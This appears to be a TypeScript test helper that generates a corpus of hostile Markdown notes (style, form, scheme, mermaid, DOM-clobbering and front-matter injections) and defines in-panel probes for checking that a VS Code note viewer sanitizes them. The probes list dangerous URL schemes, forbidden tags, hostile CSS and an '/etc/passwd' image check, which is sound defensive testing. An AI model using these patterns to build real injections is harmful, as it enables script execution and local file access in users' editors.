  { file: 'style.md', title: '样式注入', category: 'style', rows: STYLE },
  { file: 'style-hide.md', title: '样式注入：隐藏页面', category: 'style', rows: STYLE_HIDE },
  { file: 'style-overlay.md', title: '样式注入：覆盖层', category: 'style', rows: STYLE_OVERLAY },
  { file: 'form.md', title: '表单', category: 'form', rows: FORM },
  { file: 'form-autosubmit.md', title: '表单：自动提交', category: 'form', rows: FORM_AUTOSUBMIT },
  { file: 'link-scheme.md', title: '链接协议', category: 'link-scheme', rows: LINK_SCHEME, forbidden: LINKY, needsInteraction: true },
  { file: 'image-scheme.md', title: '图片协议', category: 'image-scheme', rows: IMAGE_SCHEME, forbidden: IMAGEY },
  { file: 'code-fence.md', title: '代码块信息串', category: 'code-fence', rows: CODE_FENCE },
  { file: 'mermaid-directive.md', title: 'mermaid 指令', category: 'mermaid-directive', rows: MERMAID_DIRECTIVE },
  { file: 'mermaid-label.md', title: 'mermaid 标签与点击', category: 'mermaid-label', rows: MERMAID_LABEL },
  {
    file: 'heading-id', title: '标题 id', category: 'heading-id', rows: HEADING_ID, each: true,
    outro: (row) => (row[0] === 'heading-ddiagram-1-0' ? `${BROKEN_DIAGRAM}\n\n${PANEL_PROBE}` : PANEL_PROBE),
    expectRender: (row) => (row[0] === 'heading-ddiagram-1-0' ? { diagrams: 2, failed: 1 } : { diagrams: 1, failed: 0 }),
  },
  { file: 'dom-clobbering', title: 'DOM 覆盖', category: 'dom-clobbering', rows: DOM_CLOBBERING, each: true, outro: () => PANEL_PROBE, expectRender: () => ({ diagrams: 1, failed: 0 }) },
  { file: 'front-matter', title: '前置元数据', category: 'front-matter', rows: FRONT_MATTER, each: true, traces: ['opens'], forbidden: SCRIPTY },
  { file: 'quiz.md', title: '恶意测验', category: 'quiz', rows: QUIZ, forbidden: SCRIPTY },
];

const basename = (file: string): string => path.posix.basename(file, '.md');

/** A description as Markdown: tags it names are shown as code, not parsed as HTML. */
const describe = (text: string): string => text.replace(/<[^>]*>/g, (tag) => `\`${tag}\``);

function bodyFile(file: string, title: string, vectors: HostileVector[], outro?: string): string {
  const sections = vectors.map((v) => `## ${v.id}\n\n${describe(v.description)}\n\n${v.payload}\n\n${v.canary}\n`);
  return [`---\nid: hostile-${basename(file)}\ntitle: ${title}\n---\n# ${title}\n\n${INTRO}\n`, ...sections, ...(outro ? [`${outro}\n`] : [])].join('\n');
}

function buildFiles(): HostileFile[] {
  const files: HostileFile[] = [];
  for (const group of GROUPS) {
    if (group.category === 'front-matter') {
      for (const row of group.rows) {
        const file = `${group.file}/${row[0]}.md`;
        const v = vector(row[0], group.category, file, row[1], row[2], group);
        const id = /^id: (hostile-[a-z0-9-]+)$/m.exec(v.frontMatter!)?.[1];
        const text = `---\n${v.frontMatter}\n---\n# ${group.title}：${v.id}\n\n${describe(v.description)}\n\n${v.canary}\n`;
        files.push({ file, noteId: id, title: `${group.title}：${v.id}`, vectors: [v], text: () => text });
      }
    } else if (group.category === 'quiz') {
      const vectors = group.rows.map((row) => vector(row[0], group.category, group.file, row[1], row[2], group));
      const text = `---\nid: hostile-quiz\ntitle: ${group.title}\nquiz:\n${vectors.map((v) => v.quizItem).join('\n')}\n---\n# ${group.title}\n\n${INTRO}\n\n## 测验\n\n每道题的题干、选项、答案或解析里都有注入；CANARY 文字写在题目里，测验界面必须原样显示。\n`;
      files.push({ file: group.file, noteId: 'hostile-quiz', title: group.title, vectors, text: () => text });
    } else if (group.each) {
      for (const row of group.rows) {
        const file = `${group.file}/${row[0]}.md`;
        const v = vector(row[0], group.category, file, row[1], row[2], group);
        const title = `${group.title}：${v.id}`;
        const text = bodyFile(file, title, [v], group.outro?.(row));
        files.push({ file, noteId: `hostile-${v.id}`, title, vectors: [v], expectRender: group.expectRender?.(row), text: () => text });
      }
    } else {
      const vectors = group.rows.map((row) => vector(row[0], group.category, group.file, row[1], row[2], group));
      const text = bodyFile(group.file, group.title, vectors);
      files.push({ file: group.file, noteId: `hostile-${basename(group.file)}`, title: group.title, vectors, text: () => text });
    }
  }
  for (const spec of GENERATED) {
    const file = `generated/${spec.id}.md`;
    const v: HostileVector = {
      id: spec.id, category: spec.category, file, canary: canaryOf(spec.id), canaryIn: 'body', description: spec.description,
      traces: spec.traces ?? ['hang'], forbidden: spec.forbidden ?? [],
      generated: true, binary: spec.binary,
    };
    const title = `生成：${spec.id}`;
    // Built on each call (cheap), so megabytes of generated text are not kept alive by the manifest.
    const text = (): string => `---\nid: hostile-${spec.id}\ntitle: ${title}\n---\n# ${title}\n\n${describe(spec.description)}\n\n${spec.body()}\n\n${v.canary}\n`;
    files.push({ file, noteId: `hostile-${spec.id}`, title, vectors: [v], text });
  }
  return files;
}

/** Every note of the corpus, committed and generated. */
export const HOSTILE_FILES: readonly HostileFile[] = buildFiles();

/** Every vector, in file order. */
export const HOSTILE_VECTORS: readonly HostileVector[] = HOSTILE_FILES.flatMap((file) => file.vectors);

/** Size in bytes of a vector's note (generated notes are built on first use), so a test can skip huge ones. */
export function noteBytes(vector: HostileVector): number {
  const file = HOSTILE_FILES.find((f) => f.file === vector.file)!;
  return Buffer.byteLength(file.text());
}

/** Replaces `{{PORT}}` with the loopback listener's port. */
export function withPort(text: string, port: number): string {
  return text.split(PORT_PLACEHOLDER).join(String(port));
}

export interface WrittenHostileNote {
  file: HostileFile;
  /** Absolute path written. */
  path: string;
}

/**
 * Writes the corpus (committed notes and generated ones) into `dir`, with `{{PORT}}` replaced.
 * `filter` picks files (default: all). Returns what was written.
 */
export function writeHostileCorpus(dir: string, options: { port: number; filter?: (file: HostileFile) => boolean }): WrittenHostileNote[] {
  const written: WrittenHostileNote[] = [];
  for (const file of HOSTILE_FILES) {
    if (options.filter && !options.filter(file)) continue;
    const target = path.join(dir, ...file.file.split('/'));
    fs.mkdirSync(path.dirname(target), { recursive: true });
    fs.writeFileSync(target, withPort(file.text(), options.port));
    written.push({ file, path: target });
  }
  return written;
}

/** The committed corpus folder (test/fixtures/hostile), found from the running test's folder upwards. */
export function hostileFixtureDir(from = __dirname): string {
  for (let dir = from; ; dir = path.dirname(dir)) {
    const candidate = path.join(dir, 'test', 'fixtures', 'hostile');
    if (fs.existsSync(candidate)) return candidate;
    if (path.dirname(dir) === dir) throw new Error(`test/fixtures/hostile not found above ${from}`);
  }
}

// ---------------------------------------------------------------------------------------------
// Probes to run inside the note panel (strings, for the webview bridge)

/**
 * A function expression, `(root, options) => string[]`, run in the panel: lists dangerous markup left
 * under `root` (use `main.note-body`). Allows the panel's own code buttons, mermaid's SVG (without
 * handlers, links, foreign objects or remote CSS) and table alignment styles. `options.resourcePrefixes`
 * (optional): the webview URIs of the note folders; images elsewhere on the webview resource host are
 * reported.
 */
export const DANGEROUS_MARKUP_PROBE = String.raw`(root, options) => {
  const findings = [];
  const prefixes = (options && options.resourcePrefixes) || null;
  const report = (element, why) => findings.push(why + ': ' + element.outerHTML.slice(0, 200));
  const normalize = (value) => String(value).replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  const badScheme = /^(javascript|vbscript|data|command|vscode|vscode-insiders|file|vscode-resource|vscode-webview-resource):/;
  const badCss = /url\(\s*['"]?\s*(?!#)|expression\s*\(|@import|binding|behavior|position\s*:\s*fixed|\\/i;
  const badTags = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'form', 'input', 'textarea', 'select', 'option', 'template', 'portal', 'noscript', 'noembed', 'noframes', 'xmp', 'plaintext', 'title', 'head', 'body', 'html', 'audio', 'video', 'source', 'track', 'math', 'foreignobject', 'animate', 'animatemotion', 'animatetransform', 'set', 'use', 'image', 'feimage', 'marquee', 'dialog']);
  const urlAttributes = ['href', 'xlink:href', 'src', 'action', 'formaction', 'srcset', 'poster', 'background', 'data', 'codebase', 'cite', 'longdesc', 'ping', 'lowsrc', 'dynsrc', 'data-external', 'to', 'values', 'from'];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName.toLowerCase();
    const inDiagram = !!element.closest('.diagram-output');
    if (badTags.has(tag) && !(inDiagram && tag === 'title')) report(element, 'element <' + tag + '>');
    if (tag === 'button' && !element.matches('.code-actions > button')) report(element, 'button');
    if (tag === 'style' && (!inDiagram || badCss.test(element.textContent) || /PWNED|pwned/.test(element.textContent))) report(element, 'style element');
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = normalize(attribute.value);
      if (name.startsWith('on')) report(element, 'handler ' + name);
      if (name === 'style' && (inDiagram ? badCss.test(attribute.value) : !/^\s*text-align\s*:\s*(left|right|center)\s*;?\s*$/i.test(attribute.value))) report(element, 'style attribute');
      if (urlAttributes.includes(name) && badScheme.test(value)) report(element, name + ' scheme');
      if (urlAttributes.includes(name) && /\/pwned\//.test(value)) report(element, name + ' to the loopback listener');
      if (['srcset', 'ping', 'formaction', 'action', 'background', 'poster', 'srcdoc', 'autofocus', 'popover', 'popovertarget', 'shadowrootmode'].includes(name)) report(element, 'attribute ' + name);
      if (name === 'name' && ['img', 'form', 'embed', 'object', 'iframe', 'a', 'input'].includes(tag)) report(element, 'clobbering name');
      if (name === 'id' && !inDiagram && (value === 'study-notes-strings' || value === 'mermaid' || /^d?diagram-\d+-\d+$/.test(value))) report(element, 'reserved id');
    }
    if (tag === 'img') {
      const src = element.getAttribute('src') || '';
      const n = normalize(src);
      if (n && !/^https:/.test(n)) report(element, 'image not https');
      if (/etc\/passwd/.test(n)) report(element, 'image outside the note folders');
      if (prefixes && /vscode-resource|vscode-cdn/.test(n) && !prefixes.some((prefix) => src.startsWith(prefix))) report(element, 'webview resource outside the note folders');
    }
  }
  for (const main of root.querySelectorAll('main')) report(main, 'nested main');
  // A <body> tag inside a note adds its attributes to the page's own body when the page is parsed.
  for (const element of [root.ownerDocument.body, root.ownerDocument.documentElement]) {
    for (const attribute of element.attributes) if (attribute.name.toLowerCase().startsWith('on')) report(element, 'handler on the page ' + attribute.name);
  }
  return findings;
}`;

/** An expression that reports the in-page traces: the global, the title, the panel's button labels. */
export const TRACE_PROBE = String.raw`({
  global: window.__pwned ?? null,
  title: /PWNED/.test(document.title) ? document.title : null,
  labels: [...document.querySelectorAll('.code-actions button')].map((button) => button.textContent).filter((text) => /PWNED/.test(text)),
})`;

/** Counts of hostile vectors per category. */
export function hostileCounts(): Record<HostileCategory, number> {
  const counts = Object.fromEntries(HOSTILE_CATEGORIES.map((category) => [category, 0])) as Record<HostileCategory, number>;
  for (const v of HOSTILE_VECTORS) counts[v.category]++;
  return counts;
}
